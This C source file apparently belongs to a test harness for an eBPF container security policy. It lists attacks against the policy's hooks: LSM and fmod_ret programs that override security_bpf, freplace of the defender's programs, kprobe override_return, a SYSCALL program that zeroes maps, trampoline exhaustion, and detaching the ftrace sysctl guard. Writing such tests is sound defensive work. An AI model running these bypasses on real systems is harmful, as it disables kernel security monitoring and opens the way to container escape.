/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * Programs of the attacker's: in front of ours, in their place, behind them.
 *
 * What they return lets a container pass where only the hook `bpf` forbids it,
 * which a canary tries.
 */
#include <errno.h>
#include <fcntl.h>
#include <linux/btf.h>
#include <linux/perf_event.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "bpf.h"

#define HELPER_OVERRIDE_RETURN 58
#define HELPER_SYS_BPF	       166
#define TRAMPOLINE_MAX	       38

static int attached(int program)
{
	if (program < 0 || bpf_open_tracing(program) < 0)
		return errno;
	return THROUGH;
}

/* Older kernels stop at what is not 0; from 6.12 on it has to be an errno. */
static int lsm_program(const struct scene *scene)
{
	uint32_t hook = bpf_function("bpf_lsm_bpf");
	int program = bpf_load_return(BPF_PROG_TYPE_LSM, BPF_LSM_MAC, hook, 1);

	(void)scene;
	if (program < 0 && errno == EINVAL)
		program = bpf_load_return(BPF_PROG_TYPE_LSM, BPF_LSM_MAC, hook,
					  0);
	return attached(program);
}

static int fmod_ret(const struct scene *scene)
{
	static const char *const functions[] = {
		"security_bpf",
		"security_bpf_map",
		"security_bpf_prog",
		"security_kernel_load_data",
	};
	struct tally tally = { 0 };

	(void)scene;
	for (size_t i = 0; i < sizeof(functions) / sizeof(*functions); i++) {
		int program = bpf_load_return(BPF_PROG_TYPE_TRACING,
					      BPF_MODIFY_RETURN,
					      bpf_function(functions[i]), 1);

		tally_add(&tally, program < 0 ? -1 : bpf_open_tracing(program),
			  functions[i]);
	}
	return tally_result(&tally);
}

/* ---- freplace: a function of the same type takes the place of ours ---- */

/* unsigned long long, a pointer to it, int, and int f(unsigned long long *) */
static const struct {
	struct btf_header header;
	uint32_t types[19];
	char strings[8];
} replacement_types = {
	.header = { .magic = BTF_MAGIC,
		    .version = BTF_VERSION,
		    .hdr_len = sizeof(struct btf_header),
		    .type_len = sizeof(replacement_types.types),
		    .str_off = sizeof(replacement_types.types),
		    .str_len = sizeof(replacement_types.strings) },
	.types = { /* 1 */ 1, BTF_KIND_INT << 24, 8, 64,
		   /* 2 */ 0, BTF_KIND_PTR << 24, 1,
		   /* 3 */ 1, BTF_KIND_INT << 24, 4,
		   (uint32_t)BTF_INT_SIGNED << 24 | 32,
		   /* 4 */ 0, BTF_KIND_FUNC_PROTO << 24 | 1, 3, 3, 2,
		   /* 5 */ 3, BTF_KIND_FUNC << 24 | BTF_FUNC_GLOBAL, 4 },
	.strings = "\0x\0f\0\0\0",
};

static int load_types(void)
{
	union bpf_attr attr = { .btf = (uintptr_t)&replacement_types,
				.btf_size = sizeof(replacement_types) };

	return bpf_call(BPF_BTF_LOAD, &attr, sizeof(attr));
}

/* The type of the program's own first function. */
static uint32_t first_function(int program)
{
	struct bpf_func_info functions[64];
	struct bpf_prog_info info = {
		.nr_func_info = 64,
		.func_info_rec_size = sizeof(*functions),
		.func_info = (uintptr_t)functions,
	};
	union bpf_attr attr = { .info = { .bpf_fd = (uint32_t)program,
					  .info_len = sizeof(info),
					  .info = (uintptr_t)&info } };

	memset(functions, 0, sizeof(functions));
	if (bpf_call(BPF_OBJ_GET_INFO_BY_FD, &attr, sizeof(attr)))
		return 0;
	return functions[0].type_id;
}

int bpf_load_replacement(int program)
{
	static int types = -1;
	static const struct bpf_insn instructions[] = { RETURN(0) };
	static const struct bpf_func_info function = { 0, 5 };
	union bpf_attr attr = {
		.prog_type = BPF_PROG_TYPE_EXT,
		.insns = (uintptr_t)instructions,
		.insn_cnt = 2,
		.license = (uintptr_t) "GPL",
		.func_info_rec_size = sizeof(function),
		.func_info = (uintptr_t)&function,
		.func_info_cnt = 1,
		.attach_prog_fd = (uint32_t)program,
		.attach_btf_id = first_function(program),
	};

	if (types < 0)
		types = load_types();
	attr.prog_btf_fd = (uint32_t)types;
	return bpf_call(BPF_PROG_LOAD, &attr, sizeof(attr));
}

static void replace(int fd, uint32_t id, void *data)
{
	int program = bpf_load_replacement(fd);

	(void)id;
	tally_add(data, program < 0 ? -1 : bpf_open_tracing(program),
		  "freplace");
}

static int freplace(const struct scene *scene)
{
	struct tally tally = { 0 };

	if (!bpf_each(scene, PROGRAMS, 0, replace, &tally))
		return errno;
	return tally_result(&tally);
}

/* ---- others ---- */

static int attach_kprobe(int program, const char *function)
{
	FILE *file = fopen("/sys/bus/event_source/devices/kprobe/type", "re");
	struct perf_event_attr attr = { .size = sizeof(attr) };
	int fd = -1;

	if (!file)
		return -1;
	if (fscanf(file, "%u", &attr.type) == 1) {
		attr.config1 = (uintptr_t)function;
		fd = (int)syscall(SYS_perf_event_open, &attr, -1, 0, -1, 0);
	}
	fclose(file);
	if (fd < 0 || ioctl(fd, PERF_EVENT_IOC_SET_BPF, program))
		return -1;
	return ioctl(fd, PERF_EVENT_IOC_ENABLE, 0);
}

/* override_return(ctx, 0) */
static int override(const struct scene *scene)
{
	static const struct bpf_insn instructions[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K, .dst_reg = 2 },
		{ .code = BPF_JMP | BPF_CALL, .imm = HELPER_OVERRIDE_RETURN },
		RETURN(0),
	};
	static const char *const functions[] = { "security_bpf", "bpf_lsm_bpf",
						 "security_kernel_load_data" };
	struct tally tally = { 0 };
	int program = bpf_load(BPF_PROG_TYPE_KPROBE, 0, 0, 0, instructions, 4);

	(void)scene;
	if (program < 0)
		return errno;
	for (size_t i = 0; i < sizeof(functions) / sizeof(*functions); i++)
		tally_add(&tally, attach_kprobe(program, functions[i]),
			  functions[i]);
	return tally_result(&tally);
}

/* sys_bpf(MAP_GET_FD_BY_ID, ctx, 12): the context is the attributes. */
static int sys_bpf(const struct scene *scene)
{
	static const struct bpf_insn instructions[] = {
		{ .code = BPF_ALU64 | BPF_MOV | BPF_X,
		  .dst_reg = 2,
		  .src_reg = 1 },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K,
		  .dst_reg = 1,
		  .imm = BPF_MAP_GET_FD_BY_ID },
		{ .code = BPF_ALU64 | BPF_MOV | BPF_K,
		  .dst_reg = 3,
		  .imm = 12 },
		{ .code = BPF_JMP | BPF_CALL, .imm = HELPER_SYS_BPF },
		{ .code = BPF_JMP | BPF_EXIT },
	};
	int program =
		bpf_load(TYPE_SYSCALL, 0, 0, FLAG_SLEEPABLE, instructions, 5);
	struct tally tally = { 0 };

	if (program < 0)
		return errno;
	for (uint32_t id = scene->before.map + 1; id < scene->before.map + 32;
	     id++) {
		uint32_t attributes[4] = { id };
		struct bpf_map_info info;
		char zeros[4096] = { 0 };
		int fd = bpf_test_run(program, attributes, 16);

		if (fd < 0) {
			tally.error = fd == -1 ? errno : -fd;
			tally.tried++;
			continue;
		}
		if (!bpf_map_info(fd, &info) && info.value_size <= 4096)
			tally_add(&tally, bpf_update(fd, zeros, zeros),
				  info.name);
	}
	return tally_result(&tally);
}

static void attach_again(int fd, uint32_t id, void *data)
{
	(void)id;
	tally_add(data, bpf_open_tracing(fd), "attached again");
}

static int open_again(const struct scene *scene)
{
	struct tally tally = { 0 };

	if (!bpf_each(scene, PROGRAMS, 0, attach_again, &tally))
		return errno;
	return tally_result(&tally);
}

static int lsm_cgroup(const struct scene *scene)
{
	union bpf_attr attr = { 0 };
	int program = bpf_load_return(BPF_PROG_TYPE_LSM, ATTACH_LSM_CGROUP,
				      bpf_function("bpf_lsm_socket_bind"), 1);

	(void)scene;
	if (program < 0)
		return errno;
	attr.link_create.prog_fd = (uint32_t)program;
	attr.link_create.target_fd =
		(uint32_t)open("/sys/fs/cgroup", O_RDONLY | O_CLOEXEC);
	attr.link_create.attach_type = ATTACH_LSM_CGROUP;
	return bpf_call(BPF_LINK_CREATE, &attr, sizeof(attr)) < 0 ? errno
								  : THROUGH;
}

static int cgroup_device(const struct scene *scene)
{
	union bpf_attr attr = { .attach_type = BPF_CGROUP_DEVICE,
				.attach_flags = BPF_F_ALLOW_MULTI };
	int program = bpf_load_return(BPF_PROG_TYPE_CGROUP_DEVICE,
				      BPF_CGROUP_DEVICE, 0, 1);

	(void)scene;
	if (program < 0)
		return errno;
	mkdir("/sys/fs/cgroup/attack", 0755);
	attr.target_fd =
		(uint32_t)open("/sys/fs/cgroup/attack", O_RDONLY | O_CLOEXEC);
	attr.attach_bpf_fd = (uint32_t)program;
	return bpf_call(BPF_PROG_ATTACH, &attr, sizeof(attr)) ? errno : THROUGH;
}

/* Whoever watches our hooks, as many as the kernel takes. */
static int watchers(const struct scene *scene)
{
	static const char *const functions[] = { "bpf_lsm_bpf",
						 "bpf_lsm_kernel_read_file",
						 "bpf_lsm_bprm_creds_for_exec",
						 "bpf_lsm_sb_umount",
						 "security_bpf" };
	struct tally tally = { 0 };

	(void)scene;
	for (size_t i = 0; i < sizeof(functions) / sizeof(*functions); i++) {
		uint32_t function = bpf_function(functions[i]);

		for (int n = 0; n < TRAMPOLINE_MAX; n++) {
			int program = bpf_load_return(BPF_PROG_TYPE_TRACING,
						      n % 2 ? BPF_TRACE_FEXIT
							    : BPF_TRACE_FENTRY,
						      function, 0);

			tally_add(&tally,
				  program < 0 ? -1 : bpf_open_tracing(program),
				  functions[i]);
			close(program);
		}
	}
	return tally_result(&tally);
}

/* ---- the program for kernel.ftrace_enabled ---- */

static int attach_sysctl(int cgroup, int program, uint32_t flags)
{
	union bpf_attr attr = { .target_fd = (uint32_t)cgroup,
				.attach_bpf_fd = (uint32_t)program,
				.attach_type = BPF_CGROUP_SYSCTL,
				.attach_flags = flags };

	return bpf_call(BPF_PROG_ATTACH, &attr, sizeof(attr));
}

static void detach_sysctl(int fd, uint32_t id, void *data)
{
	union bpf_attr attr = {
		.target_fd =
			(uint32_t)open("/sys/fs/cgroup", O_RDONLY | O_CLOEXEC),
		.attach_bpf_fd = (uint32_t)fd,
		.attach_type = BPF_CGROUP_SYSCTL,
	};

	(void)id;
	tally_add(data, bpf_call(BPF_PROG_DETACH, &attr, sizeof(attr)),
		  "detached the sysctl program");
	close((int)attr.target_fd);
}

static int sysctl_program(const struct scene *scene)
{
	static const uint32_t flags[] = { 0, BPF_F_ALLOW_OVERRIDE,
					  BPF_F_ALLOW_MULTI };
	struct tally tally = { 0 };
	int root = open("/sys/fs/cgroup", O_RDONLY | O_CLOEXEC), own, program;

	bpf_each(scene, PROGRAMS, 0, detach_sysctl, &tally);
	mkdir("/sys/fs/cgroup/attack", 0755);
	own = open("/sys/fs/cgroup/attack", O_RDONLY | O_CLOEXEC);
	program = bpf_load_return(BPF_PROG_TYPE_CGROUP_SYSCTL,
				  BPF_CGROUP_SYSCTL, 0, 1);
	if (program < 0)
		tally_add(&tally, -1, "load");
	for (size_t i = 0; i < 3 && program >= 0; i++) {
		tally_add(&tally, attach_sysctl(root, program, flags[i]),
			  "root");
		tally_add(&tally, attach_sysctl(own, program, flags[i]), "own");
	}
	write_text("/sys/fs/cgroup/attack/cgroup.procs", "0\n");
	write_text(FTRACE_ENABLED, "0\n");
	return read_number(FTRACE_ENABLED) == 0 ? THROUGH : EPERM;
}

const struct attack program_attacks[] = {
	ATTACK(10, "lsm-program", "load an LSM program that returns 1 on bpf()",
	       AIM_CALL, lsm_program),
	ATTACK(11, "fmod-ret",
	       "fmod_ret returning 1 on security_bpf and others", AIM_CALL,
	       fmod_ret),
	ATTACK(12, "freplace", "freplace our programs by `return 0`", AIM_CALL,
	       freplace),
	ATTACK(13, "override-return", "kprobe and override_return on our hooks",
	       AIM_CALL, override),
	ATTACK(14, "sys-bpf", "a SYSCALL program that calls bpf_sys_bpf",
	       AIM_CALL, sys_bpf),
	ATTACK(15, "attach-again", "RAW_TRACEPOINT_OPEN of our programs",
	       AIM_CALL, open_again),
	ATTACK(16, "lsm-cgroup", "an lsm_cgroup program", AIM_CALL, lsm_cgroup),
	ATTACK(19, "cgroup-device", "a CGROUP_DEVICE program", AIM_POLICY,
	       cgroup_device),
	ATTACK(76, "watchers",
	       "38 fentry and fexit programs on each of our hooks", AIM_POLICY,
	       watchers, .traits = SLOW),
	ATTACK(78, "sysctl-program",
	       "detach or outvote the program that guards ftrace_enabled, then 32",
	       AIM_CALL, sysctl_program),
	{ 0 },
};
